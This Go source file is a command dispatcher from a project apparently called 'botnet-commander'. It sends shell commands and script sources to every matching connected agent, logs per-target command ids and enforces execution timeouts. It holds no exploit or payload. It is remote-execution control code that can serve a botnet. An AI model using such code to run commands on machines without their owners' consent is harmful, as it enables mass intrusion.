// Package dispatch fans commands and scripts out to connected agents. A
// dispatch freezes the target set, reserves a contiguous block of event-log
// rows whose counts become the wire cmd_ids, and then writes one frame per
// target. Failed writes are reported per target and never retried; their rows
// stay unanswered in the log.
package dispatch

import (
	"context"
	"fmt"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/metrics"
	"github.com/rpcyber/botnet-commander/internal/protocol"
	"github.com/rpcyber/botnet-commander/internal/registry"
	"github.com/rpcyber/botnet-commander/internal/store"
)

const (
	// writeTimeout bounds each per-target frame write. A session stuck longer
	// than this is marked failed for the dispatch and left to its read-side
	// timeout handling.
	writeTimeout = 60 * time.Second

	// DefaultCommandTimeout is the child-process deadline sent to agents
	// until an operator overrides it.
	DefaultCommandTimeout = 30

	// MinCommandTimeout and MaxCommandTimeout bound operator overrides.
	MinCommandTimeout = 1
	MaxCommandTimeout = 86400
)

// ErrTimeoutRange reports an out-of-bounds command timeout override.
var ErrTimeoutRange = fmt.Errorf("dispatch: command timeout must be between %d and %d seconds", MinCommandTimeout, MaxCommandTimeout)

// Dispatcher serializes dispatches so each one owns a contiguous cmd_id
// block.
type Dispatcher struct {
	registry *registry.Registry
	store    *store.Store
	log      *zap.Logger
	metrics  *metrics.Metrics

	mu      sync.Mutex
	timeout atomic.Int64
}

// New creates a dispatcher with the default command timeout.
func New(reg *registry.Registry, st *store.Store, log *zap.Logger, m *metrics.Metrics) *Dispatcher {
	d := &Dispatcher{
		registry: reg,
		store:    st,
		log:      log.Named("dispatch"),
		metrics:  m,
	}
	d.timeout.Store(DefaultCommandTimeout)
	return d
}

// CommandTimeout returns the current per-child-process deadline in seconds.
func (d *Dispatcher) CommandTimeout() int64 {
	return d.timeout.Load()
}

// SetCommandTimeout overrides the per-child-process deadline for all future
// dispatches.
func (d *Dispatcher) SetCommandTimeout(seconds int64) error {
	if seconds < MinCommandTimeout || seconds > MaxCommandTimeout {
		return ErrTimeoutRange
	}
	d.timeout.Store(seconds)
	d.log.Info("command timeout updated", zap.Int64("seconds", seconds))
	return nil
}

// Command dispatches a shell command to every live agent matching entity and
// osFilter. The result maps each targeted agent id to "success" or
// "failed: <reason>".
func (d *Dispatcher) Command(ctx context.Context, entity, osFilter, command string) (map[string]string, error) {
	timeout := d.timeout.Load()
	return d.dispatch(ctx, entity, osFilter, protocol.MsgExeCommand, command,
		func(cmdID int64) protocol.Message {
			return protocol.NewExeCommand(command, timeout, cmdID)
		})
}

// Script reads the script at scriptPath on the commander host and dispatches
// its source for execution under the named interpreter. The event log records
// the script path, not the source.
func (d *Dispatcher) Script(ctx context.Context, entity, osFilter, scriptPath, scriptType string) (map[string]string, error) {
	source, err := os.ReadFile(scriptPath)
	if err != nil {
		return nil, fmt.Errorf("dispatch: read script %s: %w", scriptPath, err)
	}
	timeout := d.timeout.Load()
	return d.dispatch(ctx, entity, osFilter, protocol.MsgExeScript, scriptPath,
		func(cmdID int64) protocol.Message {
			return protocol.NewExeScript(scriptPath, scriptType, string(source), timeout, cmdID)
		})
}

// dispatch is the shared engine. The mutex covers target freezing, row
// reservation, and the write loop so concurrent dispatches cannot interleave
// their cmd_id blocks.
func (d *Dispatcher) dispatch(ctx context.Context, entity, osFilter, event, detail string, build func(cmdID int64) protocol.Message) (map[string]string, error) {
	d.mu.Lock()
	defer d.mu.Unlock()

	targets := d.registry.Targets(entity, osFilter)
	result := make(map[string]string, len(targets))
	if len(targets) == 0 {
		d.log.Info("dispatch matched no live agents",
			zap.String("event", event),
			zap.String("entity", entity),
			zap.String("os", osFilter))
		return result, nil
	}

	lastID, err := d.store.LastRowID(ctx)
	if err != nil {
		return nil, err
	}

	now := time.Now().UTC().Format(time.RFC3339)
	events := make([]store.CommandEvent, len(targets))
	for i, tg := range targets {
		events[i] = store.CommandEvent{
			Time:        now,
			AgentID:     tg.ID,
			Event:       event,
			EventDetail: detail,
		}
	}
	// The rows autoincrement from lastID+1 in insertion order, so target i
	// owns cmd_id lastID+1+i.
	if err := d.store.AddAgentEvents(ctx, events); err != nil {
		return nil, err
	}

	for i, tg := range targets {
		cmdID := lastID + 1 + int64(i)
		if err := tg.Writer.WriteFrame(build(cmdID), writeTimeout); err != nil {
			d.log.Warn("dispatch write failed",
				zap.String("agent_id", tg.ID),
				zap.Int64("cmd_id", cmdID),
				zap.Error(err))
			result[tg.ID] = fmt.Sprintf("failed: %v", err)
			d.metrics.Dispatches.WithLabelValues(event, "failed").Inc()
			continue
		}
		result[tg.ID] = "success"
		d.metrics.Dispatches.WithLabelValues(event, "success").Inc()
	}

	d.log.Info("dispatch complete",
		zap.String("event", event),
		zap.Int("targets", len(targets)),
		zap.Int64("first_cmd_id", lastID+1))
	return result, nil
}
